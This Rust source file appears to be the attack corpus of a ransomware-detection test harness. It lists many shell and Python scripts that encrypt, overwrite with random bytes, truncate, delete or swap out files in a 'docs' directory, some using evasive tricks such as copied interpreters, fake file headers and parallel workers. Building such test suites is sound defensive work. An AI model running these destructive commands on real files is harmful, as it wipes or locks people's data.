//! Attacks that are played. Each script starts in a directory with `docs` in it.

pub struct Way {
    pub name: &'static str,
    /// Programs that must be installed.
    pub needs: &'static str,
    pub script: &'static str,
    /// It is over in a few calls or milliseconds: nobody can stop it in the middle. All comes back.
    pub at_once: bool,
}

pub const fn way(name: &'static str, needs: &'static str, script: &'static str) -> Way {
    Way {
        name,
        needs,
        script,
        at_once: false,
    }
}

/// `files` lists them; `cipher FROM TO` makes ciphertext of the same length, here by reading random bytes.
pub const PRELUDE: &str = r#"
files() { find docs -type f | sort -t/ -k3; }
each() { files | while read -r f; do "$@" "$f"; done; }
cipher() { head -c "$(stat -c %s "$1")" /dev/urandom > "$2"; }
staged() { mkdir -p "$OUT/$(dirname "$1")"; cipher "$1" "$OUT/$1"; }
"#;

pub const PYTHON: &str = "python3";

/// Those that differ most from each other.
pub const QUICK_ATTACKS: &[Way] = &[
    way(
        "perl truncate",
        "perl",
        r#"files | perl -ne 'chomp; truncate($_, 0)'"#,
    ),
    way("redirection", "bash", r#"empty() { : > "$1"; }; each empty"#),
    way(
        "mv",
        "mv",
        r#"each staged; over() { mv -f "$OUT/$1" "$1"; }; each over"#,
    ),
    way("tee of nothing", "tee", r#"files | xargs tee > /dev/null"#),
    way(
        "documents deleted in every directory",
        "perl",
        r#"cp "$(command -v perl)" "$OUT/w"
find docs -name '*.txt' -o -name '*.csv' | sort -t/ -k3 | "$OUT/w" -ne 'chomp; unlink; select(undef, undef, undef, 0.01)'"#,
    ),
];

pub const ATTACKS: &[Way] = &[
    way(
        "ciphertext behind a magic",
        PYTHON,
        r#"files | python3 -c 'import os, sys
heads = ["1f8b08000000000000ff", "ffd8ffe000104a46494600010100000100010000", "504b0304140000000800", "28b52ffd",
         "89504e470d0a1a0a0000000d49484452", "377abcaf271c0004", "255044462d312e370a"]
for number, path in enumerate(sys.stdin.read().split("\n")[:-1]):
    size = os.path.getsize(path)
    with open(path, "wb") as file:
        file.write(bytes.fromhex(heads[number % 7]) + os.urandom(size))'"#,
    ),
    way(
        "ciphertext behind a magic beside originals",
        PYTHON,
        r#"files | python3 -c 'import os, sys
for path in sys.stdin.read().split("\n")[:-1]:
    with open(path + ".locked", "wb") as file:
        file.write(b"\x1f\x8b\x08\0" + os.urandom(os.path.getsize(path)))
    os.unlink(path)'"#,
    ),
    way(
        "ciphertext in a genuine gzip",
        PYTHON,
        r#"files | python3 -c 'import gzip, os, sys
for path in sys.stdin.read().split("\n")[:-1]:
    content = gzip.compress(os.urandom(os.path.getsize(path)), 0)
    with open(path, "wb") as file:
        file.write(content)'"#,
    ),
    way(
        "ciphertext in a genuine gzip beside originals",
        PYTHON,
        r#"files | python3 -c 'import gzip, os, sys
for path in sys.stdin.read().split("\n")[:-1]:
    content = gzip.compress(os.urandom(os.path.getsize(path)), 0)
    with open(path + ".locked", "wb") as file:
        file.write(content)
    os.unlink(path)'"#,
    ),
    way(
        "gpg and rm",
        "gpg gpgconf",
        r#"export GNUPGHOME="$OUT/keys"; mkdir -m 700 "$OUT/keys"
one() { gpg --batch -q --pinentry-mode loopback --passphrase x --s2k-count 1024 -c "$1" && rm "$1"; }; each one; gpgconf --kill all"#,
    ),
    way(
        "openssl and rm",
        "openssl",
        r#"one() { openssl enc -aes-256-cbc -pbkdf2 -iter 1 -pass pass:x -in "$1" -out "$1.enc" && rm "$1"; }; each one"#,
    ),
    way(
        "zip of one file and rm",
        "zip",
        r#"one() { zip -q -P secret "$1.zip" "$1" && rm "$1"; }; each one"#,
    ),
    way(
        "zip of one file that moves and rm",
        "zip",
        r#"one() { zip -q -m -P secret "${1%.*}.zip" "$1"; }; each one"#,
    ),
    way(
        "7z of one file and rm",
        "7z",
        r#"one() { 7z a -bd -mx=1 -psecret "$1.7z" "$1" > /dev/null && rm "$1"; }; each one"#,
    ),
    way(
        "deleted by a program in a system directory",
        "perl",
        r#"W=/usr/local/bin/norn-$$; cp "$(command -v perl)" $W; trap "rm -f $W" EXIT
files | $W -ne 'chomp; unlink; select(undef, undef, undef, 0.01)'"#,
    ),
    way(
        "deleted by rm that a program of today starts",
        "perl rm",
        r#"cp "$(command -v perl)" "$OUT/w"; files | grep -v 'json$\|log$\|c$' | "$OUT/w" -ne 'chomp; system("rm", $_)'"#,
    ),
    way(
        "curl of a file",
        "curl",
        r#"each staged; over() { curl -s "file://$OUT/$1" -o "$1"; }; each over"#,
    ),
    way(
        "git checkout",
        "git",
        r#"each staged; git init -q "$OUT/r"; cd docs; G="git --git-dir=$OUT/r/.git -c user.name=a -c user.email=a@b"
$G --work-tree="$OUT/docs" add -A; $G --work-tree="$OUT/docs" commit -qm a; $G --work-tree=. checkout -qf HEAD -- ."#,
    ),
    way(
        "git reset",
        "git",
        r#"each staged; git init -q "$OUT/r"; cd docs; G="git --git-dir=$OUT/r/.git -c user.name=a -c user.email=a@b"
$G --work-tree="$OUT/docs" add -A; $G --work-tree="$OUT/docs" commit -qm a; $G --work-tree=. reset -q --hard"#,
    ),
    way(
        "dpkg",
        "dpkg dpkg-deb",
        r#"each staged; T="$OUT/tree"; mkdir -p "$T/DEBIAN" "$T$PWD" "$OUT/dpkg/info" "$OUT/dpkg/updates"; mv "$OUT/docs" "$T$PWD/docs"
printf 'Package: x
Version: 1
Architecture: all
Maintainer: a <a@b>
Description: x
' > "$T/DEBIAN/control"
touch "$OUT/dpkg/status"; dpkg-deb -Znone -b "$T" "$OUT/x.deb"; dpkg --admindir="$OUT/dpkg" --log=/dev/null --force-all -i "$OUT/x.deb""#,
    ),
    way(
        "one kind deleted",
        "perl",
        r#"cp "$(command -v perl)" "$OUT/w"; find docs -name '*.pdf' | "$OUT/w" -ne 'chomp; unlink'"#,
    ),
    way(
        "documents deleted by four",
        "perl",
        r#"cp "$(command -v perl)" "$OUT/w"
find docs -name '*.txt' -o -name '*.md' > "$OUT/list"
"$OUT/w" -e '$p = 0; for (1..3) { last unless fork; $p = $_ } while (<>) { chomp; unlink if $. % 4 == $p; select(undef, undef, undef, 0.01) } 1 while wait > 0' "$OUT/list""#,
    ),
    Way {
        at_once: true,
        ..way(
            "directories first",
            PYTHON,
            r#"cat > "$OUT/a.py" <<'END'
import os
for top in sorted(os.listdir('docs')):
    os.rename('docs/' + top, 'docs/' + top + '.locked')
for at, _, names in sorted(os.walk('docs')):
    for name in sorted(names):
        path = os.path.join(at, name)
        size = os.path.getsize(path)
        with open(path, 'r+b') as file:
            file.write(os.urandom(size))
END
python3 "$OUT/a.py""#,
        )
    },
    way(
        "python truncate",
        PYTHON,
        r#"files | python3 -c 'import os,sys
for f in sys.stdin: os.truncate(f.rstrip("\n"), 0)'"#,
    ),
    way(
        "python open",
        PYTHON,
        r#"files | python3 -c 'import sys
for f in sys.stdin: open(f.rstrip("\n"), "w").close()'"#,
    ),
    way(
        "python half",
        PYTHON,
        r#"files | python3 -c 'import os,sys
for f in sys.stdin: f = f.rstrip("\n"); os.truncate(f, os.path.getsize(f) // 2)'"#,
    ),
    way(
        "python ftruncate half",
        PYTHON,
        r#"files | python3 -c 'import os,sys
for f in sys.stdin:
  with open(f.rstrip("\n"), "r+b") as g: g.truncate(os.path.getsize(f.rstrip("\n")) // 2)'"#,
    ),
    way(
        "one byte",
        "truncate",
        r#"find docs -type f -exec truncate -s 1 {} \;"#,
    ),
    way(
        "truncate of all",
        "truncate",
        "find docs -type f -exec truncate -s 0 {} +",
    ),
    way(
        "xargs side by side",
        "xargs truncate",
        "files | xargs -P 8 -n 1 truncate -s 0",
    ),
    way(
        "cp of nothing",
        "cp",
        r#"empty() { cp /dev/null "$1"; }; each empty"#,
    ),
    way(
        "dd of nothing",
        "dd",
        r#"empty() { dd if=/dev/null of="$1" 2> /dev/null; }; each empty"#,
    ),
    way(
        "cat of nothing",
        "cat",
        r#"empty() { cat /dev/null > "$1"; }; each empty"#,
    ),
    way(
        "held by perl for good",
        "perl",
        r#"files | perl -ne 'chomp; open($h[$n++], ">", $_); END { sleep 60 }'"#,
    ),
    // Each descriptor is cut by one call, and nothing is opened in between: some hundreds are gone in milliseconds.
    Way {
        at_once: true,
        ..way(
            "held and cut",
            PYTHON,
            r#"files | python3 -c 'import sys,time
held = [open(f.rstrip("\n"), "r+b") for f in sys.stdin]
for f in held: f.truncate(0)
time.sleep(60)'"#,
        )
    },
    way(
        "held by several threads",
        PYTHON,
        r#"files | python3 -c 'import sys,threading,time
names = [f.rstrip("\n") for f in sys.stdin]; held = []
def work(part):
    for f in part: held.append(open(f, "w")); time.sleep(1)
    time.sleep(60)
for n in range(4): threading.Thread(target=work, args=(names[n::4],)).start()'"#,
    ),
    way(
        "held and deleted",
        PYTHON,
        r#"files | python3 -c 'import os,sys,time
held = []
for f in sys.stdin: held.append(open(f.rstrip("\n"), "w"))
for f in held: os.unlink(f.name)
time.sleep(60)'"#,
    ),
    way(
        "opened to read and emptied",
        PYTHON,
        r#"files | python3 -c 'import os,sys
for f in sys.stdin: os.close(os.open(f.rstrip("\n"), os.O_RDONLY | os.O_TRUNC))'"#,
    ),
    way(
        "install of nothing",
        "install",
        r#"empty() { install -m 600 /dev/null "$1"; }; each empty"#,
    ),
    way(
        "mv of nothing",
        "mv",
        r#"empty() { : > "$OUT/e"; mv -f "$OUT/e" "$1"; }; each empty"#,
    ),
    way(
        "busybox truncate",
        "busybox",
        r#"empty() { busybox truncate -s 0 "$1"; }; each empty"#,
    ),
    way("slow", "bash", r#"empty() { : > "$1"; sleep 1; }; each empty"#),
    way(
        "nobody",
        "setpriv",
        r#"setpriv --reuid=65534 --clear-groups --inh-caps=+dac_override --ambient-caps=+dac_override bash -c 'find docs -type f | while read -r f; do : > "$f"; done'"#,
    ),
    way(
        "own rename",
        PYTHON,
        r#"files | python3 -c 'import os,sys
out = os.environ["OUT"]; names = [f.rstrip("\n") for f in sys.stdin]
for n, f in enumerate(names): open(f"{out}/{n}", "wb").write(os.urandom(os.path.getsize(f)))
for n, f in enumerate(names): os.rename(f"{out}/{n}", f)'"#,
    ),
    way(
        "exchange",
        PYTHON,
        r#"files | python3 -c 'import os,sys,ctypes
c = ctypes.CDLL(None); out = os.environ["OUT"]; names = [f.rstrip("\n") for f in sys.stdin]
for n, f in enumerate(names): open(f"{out}/{n}", "wb").write(os.urandom(os.path.getsize(f)))
for n, f in enumerate(names): c.renameat2(-100, f"{out}/{n}".encode(), -100, f.encode(), 2)'"#,
    ),
    way(
        "mv from memory",
        "mv",
        r#"S=/dev/shm/norn-$$; mkdir $S; trap "rm -rf $S" EXIT
one() { cipher "$1" $S/x; mv -f $S/x "$1"; }; each one"#,
    ),
    way(
        "link then rename",
        "ln",
        r#"each staged; over() { ln -f "$OUT/$1" "$1"; }; each over"#,
    ),
    way(
        "install",
        "install",
        r#"each staged; over() { install -m 600 "$OUT/$1" "$1"; }; each over"#,
    ),
    way(
        "rsync in place",
        "rsync",
        r#"each staged; rsync -r --inplace --ignore-times --bwlimit=500 "$OUT/docs/" docs/"#,
    ),
    way(
        "rsync",
        "rsync",
        r#"each staged; rsync -r --ignore-times --bwlimit=500 "$OUT/docs/" docs/"#,
    ),
    way("cp of a tree", "cp", r#"each staged; cp -R "$OUT/docs/." docs/"#),
    way(
        "tar",
        "tar",
        r#"each staged; tar -C "$OUT" -cf "$OUT/all.tar" docs; tar -xf "$OUT/all.tar""#,
    ),
    way(
        "openssl and mv",
        "openssl mv",
        r#"one() { openssl enc -aes-256-cbc -pbkdf2 -iter 1 -pass pass:x -in "$1" -out "$OUT/x"; mv -f "$OUT/x" "$1"; }; each one"#,
    ),
    Way {
        at_once: true,
        ..way(
            "moved out and back",
            PYTHON,
            r#"cat > "$OUT/a.py" <<'END'
import os
out = os.environ['OUT']
for top in sorted(os.listdir('docs')):
    os.rename('docs/' + top, out + '/x')
    for at, _, names in os.walk(out + '/x'):
        for name in names:
            path = os.path.join(at, name)
            size = os.path.getsize(path)
            with open(path, 'r+b') as file:
                file.write(os.urandom(size))
    os.rename(out + '/x', 'docs/' + top)
END
python3 "$OUT/a.py""#,
        )
    },
    Way {
        at_once: true,
        ..way(
            "directories exchanged",
            "mv rm",
            r#"each staged
for d in docs/*; do mv "$d" docs/old; mv "$OUT/$d" "$d"; rm -rf docs/old; done"#,
        )
    },
    Way {
        at_once: true,
        ..way(
            "whole directories replaced",
            "mv rm",
            r#"each staged; mkdir "$OUT/orig"
for d in docs/*; do mv "$d" "$OUT/orig/"; mv "$OUT/$d" docs/; done; rm -rf "$OUT/orig""#,
        )
    },
    Way {
        at_once: true,
        ..way(
            "whole directories replaced by a tool's",
            "mv rm openssl",
            r#"one() { mkdir -p "$OUT/${1%/*}"; openssl enc -aes-256-cbc -pbkdf2 -iter 1 -pass pass:x -in "$1" -out "$OUT/$1"; }; each one
mkdir "$OUT/orig"; for d in docs/*; do mv "$d" "$OUT/orig/"; mv "$OUT/$d" docs/; done; rm -rf "$OUT/orig""#,
        )
    },
    Way {
        at_once: true,
        ..way(
            "whole directories replaced by a program's",
            "mv rm python3",
            r#"cp -r docs "$OUT/"; find "$OUT/docs" -type f | python3 -c 'import os,sys
for f in sys.stdin: f = f.rstrip("\n"); s = os.path.getsize(f); open(f, "r+b").write(os.urandom(s))'
mkdir "$OUT/orig"; for d in docs/*; do mv "$d" "$OUT/orig/"; mv "$OUT/$d" docs/; done; rm -rf "$OUT/orig""#,
        )
    },
    // A directory goes at once, and one is not enough.
    Way {
        at_once: true,
        ..way(
            "directories made anew by a tool",
            "mv rm openssl",
            r#"cd docs; for d in *; do mv "$d" ".$d.old"; mkdir "$d"
for f in ".$d.old"/*; do openssl enc -aes-256-ctr -pbkdf2 -iter 1 -pass pass:k -in "$f" -out "$d/${f##*/}"; done; rm -rf ".$d.old"; done"#,
        )
    },
    // A directory goes at once, and one is not enough.
    Way {
        at_once: true,
        ..way(
            "directories made anew",
            "mv rm",
            r#"cd docs; for d in *; do mv "$d" "$d.old"; mkdir "$d"
for f in "$d.old"/*; do cipher "$f" "$d/${f##*/}"; done; rm -rf "$d.old"; done"#,
        )
    },
    // A directory goes at once, and one is not enough.
    Way {
        at_once: true,
        ..way(
            "directories made beside and renamed",
            "mv rm openssl",
            r#"cd docs; for d in *; do mkdir ".n.$d"
for f in "$d"/*; do openssl enc -aes-256-ctr -pbkdf2 -iter 1 -pass pass:k -in "$f" -out ".n.$d/${f##*/}"; done; rm -rf "$d"; mv ".n.$d" "$d"; done"#,
        )
    },
    way(
        "written by a database's shell",
        "sqlite3",
        r#"one() { sqlite3 :memory: "select writefile('$1', randomblob($(stat -c %s "$1")))" > /dev/null; }; each one"#,
    ),
    way(
        "python most",
        PYTHON,
        r#"files | python3 -c 'import os,sys
for f in sys.stdin: f = f.rstrip("\n"); os.truncate(f, os.path.getsize(f) * 11 // 20)'"#,
    ),
    Way {
        at_once: true,
        ..way(
            "whole tree renamed first",
            PYTHON,
            r#"mv docs docs.locked; find docs.locked -type f | python3 -c 'import os,sys
for f in sys.stdin: f = f.rstrip("\n"); s = os.path.getsize(f); open(f, "r+b").write(os.urandom(s))'"#,
        )
    },
];
